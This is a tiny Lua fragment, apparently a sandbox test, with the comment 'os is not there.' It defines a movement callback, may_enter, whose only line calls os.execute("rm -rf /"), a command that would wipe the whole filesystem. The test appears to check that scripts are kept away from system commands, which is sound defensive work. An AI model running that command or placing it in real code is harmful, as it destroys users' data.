-- os is not there.
function may_enter(mover, step, mode, allowed)
  os.execute("rm -rf /")
end
